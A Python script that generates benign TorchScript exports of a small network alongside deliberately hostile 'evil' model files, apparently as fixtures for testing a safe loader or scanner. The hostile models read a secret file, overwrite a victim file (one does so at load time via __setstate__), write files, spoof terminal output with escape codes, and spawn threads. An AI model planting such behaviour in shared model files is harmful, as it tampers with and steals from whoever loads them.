"""Makes the files of this folder: `python3 make.py`, with torch 2.11.0.

Two networks as people export them, and what a stranger could hand over in their place. None of the latter is ever loaded.
"""

import torch
from torch import Tensor, nn


class Block(nn.Module):
    def __init__(self, width: int):
        super().__init__()
        self.conv = nn.Conv2d(width, width, 3, padding=1, bias=False)
        self.norm = nn.BatchNorm2d(width)

    def forward(self, x: Tensor) -> Tensor:
        return nn.functional.relu(x + self.norm(self.conv(x)))


class Net(nn.Module):
    """A small residual network: one channel of any size in, 8 features out."""

    def __init__(self):
        super().__init__()
        self.stem = nn.Sequential(nn.Conv2d(1, 8, 3, stride=2, padding=1), nn.BatchNorm2d(8), nn.ReLU())
        self.blocks = nn.ModuleList([Block(8), Block(8)])
        self.pool = nn.AdaptiveAvgPool2d(1)

    def forward(self, x: Tensor) -> Tensor:
        x = self.stem(x)
        for block in self.blocks:
            x = block(x)
        return torch.flatten(self.pool(x), 1)


class Reads(nn.Module):
    """Reads a file and overwrites another."""

    def forward(self, x: Tensor) -> Tensor:
        victim = torch.from_file("victim.txt", True, 16, dtype=torch.uint8)
        victim.fill_(88)
        secret = torch.from_file("secret.txt", False, 16, dtype=torch.uint8)
        return x.mean(3).flatten(1) + 0.0 * (victim.float().sum() + secret.float().sum())


class Saves(nn.Module):
    """Writes a file."""

    def forward(self, x: Tensor) -> Tensor:
        torch.save(x, "victim.txt")
        return x.mean(3).flatten(1)


class AtLoad(nn.Module):
    """Does the same before anybody asks it anything."""

    def __init__(self):
        super().__init__()
        self.weight = torch.zeros(1)

    @torch.jit.export
    def __getstate__(self):
        return (self.weight, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[Tensor, bool]):
        self.weight = torch.from_file("victim.txt", True, 16, dtype=torch.uint8).fill_(88).float()
        self.training = state[1]

    def forward(self, x: Tensor) -> Tensor:
        return x.mean(3).flatten(1) + self.weight.sum()


class Prints(nn.Module):
    """Writes to the terminal."""

    def forward(self, x: Tensor) -> Tensor:
        print("\x1b[2Jsigned by a lab")
        return x.mean(3).flatten(1)


class Forks(nn.Module):
    """Starts threads."""

    def forward(self, x: Tensor) -> Tensor:
        return torch.jit.wait(torch.jit.fork(torch.relu, x)).mean(3).flatten(1)


torch.manual_seed(0)
net = Net().eval()
torch.jit.trace(net, torch.zeros(2, 1, 8, 8)).save("traced.pt")
torch.jit.script(net).save("scripted.pt")
torch.jit.freeze(torch.jit.script(net)).save("frozen.pt")
for evil, name in [(Reads, "reads"), (Saves, "saves"), (Prints, "prints"), (Forks, "forks")]:
    torch.jit.script(evil().eval()).save(f"evil-{name}.pt")
loading = torch.jit.script(AtLoad().eval())
open("victim.txt", "w").write("o" * 16)
loading.save("evil-at-load.pt")
open("victim.txt", "w").close()
